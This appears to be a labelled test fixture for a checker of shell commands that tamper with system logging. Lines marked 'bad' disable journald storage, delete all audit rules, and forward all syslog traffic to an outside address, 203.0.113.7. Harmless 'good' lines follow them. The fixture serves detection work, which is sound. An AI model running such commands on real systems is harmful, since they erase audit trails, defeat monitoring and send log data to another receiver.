# bad: the journal keeps nothing
sudo sed -i 's/^#Storage=.*/Storage=none/' /etc/systemd/journald.conf
#    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: no rules
echo "-D" > /etc/audit/rules.d/audit.rules
# bad: another receiver
echo '*.* @203.0.113.7:514' >> /etc/rsyslog.conf
# good: nearly: reads it
cat /etc/audit/auditd.conf
# good: nearly: rotation of one's own log
cp app.logrotate /etc/logrotate.d/app
# good: restarts it
systemctl restart rsyslog
